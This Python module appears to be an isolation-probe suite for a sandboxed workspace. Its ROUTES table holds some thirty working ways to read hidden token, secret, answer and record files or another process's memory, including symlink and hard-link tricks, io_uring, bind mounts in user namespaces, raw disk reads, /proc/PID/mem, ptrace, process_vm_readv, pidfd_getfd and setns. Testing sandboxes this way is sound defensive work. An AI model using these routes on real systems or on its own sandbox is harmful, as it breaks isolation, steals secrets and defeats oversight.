"""Routes to what only the library may read: files, and another process's memory."""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import re
import socket
import stat
import struct
import subprocess
import tempfile
import time
from collections.abc import Callable, Iterator
from typing import Any

TOKEN = re.compile(rb"token-[0-9a-f]{32}")
CHUNK = 1 << 20
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
Told = dict[str, Any]


def call(number: int, *arguments: Any) -> int:
    """A system call; an error is raised."""
    wide = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    result: int = libc.syscall(ctypes.c_long(number), *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def content(path: str) -> bytes:
    """A file's content, up to a size; what is no regular file could block, or take from others."""
    with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
        if not stat.S_ISREG(os.fstat(file.fileno()).st_mode):
            raise OSError(f"{path} is no regular file")
        return file.read(64 << 20)


def hidden(told: Told) -> list[str]:
    """Paths that must not be readable."""
    return [told["token_file"], told["secret"], *told["answers"], *told["records"]]


def every(paths: list[str]) -> list[bytes]:
    """The contents of those paths that can be read; the first error if none can."""
    found: list[bytes] = []
    first: OSError | None = None
    for path in paths:
        try:
            found.append(content(path))
        except OSError as error:
            first = first or error
    if first is not None and not found:
        raise first
    return found


def by_path(told: Told) -> list[bytes]:
    """Open them."""
    return every(hidden(told))


def by_cat(told: Told) -> bytes:
    """Let other programs open them."""
    commands = (["cat"], ["dd", "status=none"], ["tail", "-c", "+1"])
    output = b""
    for words in commands:
        path = told["token_file"]
        argument = f"if={path}" if words[0] == "dd" else path
        output += subprocess.run([*words, argument], capture_output=True, check=False).stdout + b"\n"
    return output


def by_listing(told: Told) -> list[str]:
    """List their folders; one name there is a token."""
    folder = os.path.dirname(told["token_file"])
    return [
        *os.listdir(folder),
        *(name for path in told["answers"] for name in os.listdir(os.path.dirname(path))),
    ]


def by_symlink(told: Told) -> list[bytes]:
    """Through symbolic links in the workspace."""
    scratch = tempfile.mkdtemp(dir=".")
    links = []
    for number, path in enumerate(hidden(told)):
        os.symlink(path, f"{scratch}/{number}")
        links.append(f"{scratch}/{number}")
    return every(links)


def by_hardlink(told: Told) -> bytes:
    """Through a hard link in the workspace."""
    name = f"{tempfile.mkdtemp(dir='.')}/link"
    os.link(told["token_file"], name)
    return content(name)


def by_rename(told: Told) -> bytes:
    """Move the file into the workspace, read it, and move it back."""
    name = f"{tempfile.mkdtemp(dir='.')}/moved"
    os.rename(told["token_file"], name)
    found = content(name)
    os.rename(name, told["token_file"])
    return found


def by_handle(told: Told) -> bytes:
    """By the file's handle, which needs no path."""
    raw, kind = bytes.fromhex(told["handle"][0]), told["handle"][1]
    handle = ctypes.create_string_buffer(struct.pack("Ii", len(raw), kind) + raw)
    for place in (".", "/proc/self/cwd", "/", "/tmp"):
        with contextlib.suppress(OSError):
            mount = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
            return os.read(call(304, mount, handle, os.O_RDONLY), CHUNK)
    raise OSError("no file system would open the handle")


def ring(path: bytes) -> bytes:
    """Open and read a file through io_uring, past any filter on open."""
    parameters = ctypes.create_string_buffer(120)
    descriptor = call(425, 4, parameters)
    words = struct.unpack_from("10I", parameters.raw, 0)
    queue = struct.unpack_from("10I", parameters.raw, 40)
    replies = struct.unpack_from("10I", parameters.raw, 80)
    requests = mmap.mmap(descriptor, queue[6] + words[0] * 4, offset=0)
    answers = mmap.mmap(descriptor, replies[5] + words[1] * 16, offset=0x8000000)
    entries = mmap.mmap(descriptor, words[0] * 64, offset=0x10000000)
    name = ctypes.create_string_buffer(path)
    entry = struct.pack("BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, os.O_RDONLY)
    entries[: len(entry)] = entry
    requests[queue[6] : queue[6] + 4] = struct.pack("I", 0)
    requests[queue[1] : queue[1] + 4] = struct.pack("I", 1)
    call(426, descriptor, 1, 1, 1, None, 0)
    result = struct.unpack_from("i", answers, replies[5] + 8)[0]
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return os.read(result, CHUNK)


def by_ring(told: Told) -> bytes:
    """See `ring`."""
    return ring(told["token_file"].encode())


def by_bind_mount(told: Told) -> list[bytes]:
    """Mount the hidden folder into the workspace, in a user namespace if need be."""
    folder, target = os.path.dirname(told["token_file"]), tempfile.mkdtemp(dir=".")
    if libc.unshare(0x00020000) != 0 and libc.unshare(0x10000000 | 0x00020000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    libc.mount(b"none", b"/", None, 16384 | 262144, None)
    if libc.mount(folder.encode(), target.encode(), None, 4096 | 16384, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return every([f"{target}/{name}" for name in os.listdir(target)])


def by_disk(told: Told) -> bytes:
    """From the disk itself, at the file's place on it."""
    device, offset = told["disk"]
    node = f"{tempfile.mkdtemp(dir='.')}/disk"
    places = [node]
    with contextlib.suppress(OSError):
        os.mknod(node, 0o060600, device)
    with contextlib.suppress(OSError):
        places += [f"/dev/{name}" for name in os.listdir("/dev")]
    for place in places:
        with contextlib.suppress(OSError):
            if os.stat(place).st_rdev == device:
                return os.pread(os.open(place, os.O_RDONLY), 65536, offset)
    raise OSError("the disk cannot be opened")


def process_file(*parts: str) -> Callable[[Told], list[bytes]]:
    """A route through `/proc/PID/` of each process that is told of."""

    def route(told: Told) -> list[bytes]:
        paths = []
        for pid in told["pids"]:
            base = "/".join([f"/proc/{pid}", *parts])
            if parts == ("root",):
                paths += [base + path for path in (told["token_file"], *told["answers"])]
            elif parts == ("cwd",):
                paths.append(f"{base}/token")
            elif parts == ("fd",):
                paths += [f"{base}/{told['victim']['fd']}", *descriptors(base)]
            else:
                paths.append(base)
        return every(paths)

    return route


def descriptors(base: str) -> Iterator[str]:
    """Regular files that a process has open."""
    with contextlib.suppress(OSError):
        for name in os.listdir(base):
            with contextlib.suppress(OSError):
                if os.stat(f"{base}/{name}").st_mode & 0o170000 == 0o100000:
                    yield f"{base}/{name}"


def by_memory(told: Told) -> list[bytes]:
    """From /proc/PID/mem, at the address where the token lies, and all over."""
    found: list[bytes] = []
    first: OSError | None = None
    for pid in told["pids"]:
        try:
            memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            with open(f"/proc/{pid}/maps", encoding="ascii") as maps:
                areas = [line.split() for line in maps]
        except OSError as error:
            first = first or error
            continue
        for words in areas[:400]:
            start, end = (int(word, 16) for word in words[0].split("-"))
            if words[1].startswith("rw"):
                with contextlib.suppress(OSError, OverflowError):
                    found += TOKEN.findall(os.pread(memory, min(end - start, 8 << 20), start))
    if first is not None and not found:
        raise first
    return found[:8]


def by_trace(told: Told) -> bytes:
    """Attach as a debugger and read word by word."""
    pid, address = told["victim"]["pid"], told["victim"]["address"]
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0x40000000)
    data = b"".join(
        struct.pack("q", libc.ptrace(2, pid, ctypes.c_void_p(address + at), None)) for at in range(0, 40, 8)
    )
    libc.ptrace(17, pid, None, None)
    return data


def by_vm_read(told: Told) -> bytes:
    """process_vm_readv."""
    buffer = ctypes.create_string_buffer(64)
    ours = struct.pack("QQ", ctypes.addressof(buffer), 40)
    theirs = struct.pack("QQ", told["victim"]["address"], 40)
    call(310, told["victim"]["pid"], ours, 1, theirs, 1, 0)
    return buffer.raw


def by_pidfd(told: Told) -> bytes:
    """Take the open descriptor out of the other process."""
    pidfd = call(434, told["victim"]["pid"], 0)
    return os.pread(call(438, pidfd, told["victim"]["fd"], 0), CHUNK, 0)


def by_namespace(told: Told) -> list[bytes]:
    """Enter the other process's mount namespace."""
    descriptor = os.open(f"/proc/{told['victim']['pid']}/ns/mnt", os.O_RDONLY)
    if libc.setns(descriptor, 0) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return every(hidden(told))


def by_inheritance(_told: Told) -> list[bytes]:
    """From descriptors that were left open for this process."""
    found: list[bytes] = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if int(name) > 2 and os.stat(int(name)).st_mode & 0o170000 == 0o100000:
                found.append(os.pread(int(name), CHUNK, 0))
    return found


def by_environment(_told: Told) -> list[bytes]:
    """From the variables of this process and of those above it."""
    lines = [f"{name}={value}" for name, value in os.environ.items()]
    found = [line.encode("utf-8", "surrogateescape") for line in lines]
    for pid in {1, os.getppid()}:
        with contextlib.suppress(OSError):
            found += content(f"/proc/{pid}/environ").split(b"\0")
    return found


def from_sysv(told: Told) -> bytes:
    """Attach the other process's System V shared memory."""
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(told["victim"]["sysv"], None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(address, 40)


def from_posix(told: Told) -> bytes:
    """Open the other process's POSIX shared memory."""
    return content(f"/dev/shm/{told['victim']['posix']}")


def listen(family: int, kind: int, address: Any) -> bytes:
    """What a server says to whoever connects; it is told something in return."""
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        client.connect(address)
        client.send(b"hello")
        return client.recv(100)


def from_tcp(told: Told) -> bytes:
    """The other process's TCP server."""
    return listen(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", told["victim"]["tcp"]))


def from_udp(told: Told) -> bytes:
    """The other process's UDP server."""
    return listen(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", told["victim"]["udp"]))


def from_abstract(told: Told) -> bytes:
    """The other process's abstract unix socket."""
    return listen(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + told["victim"]["abstract"])


def from_path_socket(told: Told) -> bytes:
    """The other process's unix socket with a path."""
    return listen(socket.AF_UNIX, socket.SOCK_STREAM, told["victim"]["path"])


def metadata(told: Told) -> list[str]:
    """When a hidden file was written; a later look tells whether it changed."""
    return [f"fact:mtime-{os.stat(told['token_file']).st_mtime_ns}"]


def watch(told: Told) -> str:
    """Be told whenever the library opens a hidden file."""
    descriptor = libc.inotify_init1(0o4000)
    if libc.inotify_add_watch(descriptor, told["token_file"].encode(), 0x21) < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    time.sleep(0.5)
    return "claim:watched" if os.read(descriptor, 100) else ""


def command_line(told: Told) -> bytes:
    """The arguments another process was started with."""
    return content(f"/proc/{told['victim']['pid']}/cmdline")


def neighbour(told: Told) -> list[bytes]:
    """Another environment's workspace and record."""
    return every(told["neighbour"])


ROUTES: dict[str, Callable[[Told], Any]] = {
    "path": by_path,
    "other-programs": by_cat,
    "listing": by_listing,
    "symlink": by_symlink,
    "hardlink": by_hardlink,
    "rename": by_rename,
    "file-handle": by_handle,
    "io-uring": by_ring,
    "bind-mount": by_bind_mount,
    "raw-disk": by_disk,
    "proc-root": process_file("root"),
    "proc-cwd": process_file("cwd"),
    "proc-fd": process_file("fd"),
    "proc-environ": process_file("environ"),
    "proc-mem": by_memory,
    "ptrace": by_trace,
    "process-vm-readv": by_vm_read,
    "pidfd-getfd": by_pidfd,
    "setns": by_namespace,
    "inherited-descriptors": by_inheritance,
    "environment": by_environment,
    "sysv-shared-memory": from_sysv,
    "posix-shared-memory": from_posix,
    "tcp": from_tcp,
    "udp": from_udp,
    "abstract-socket": from_abstract,
    "path-socket": from_path_socket,
    "metadata": metadata,
    "inotify": watch,
    "command-line": command_line,
    "neighbour": neighbour,
}
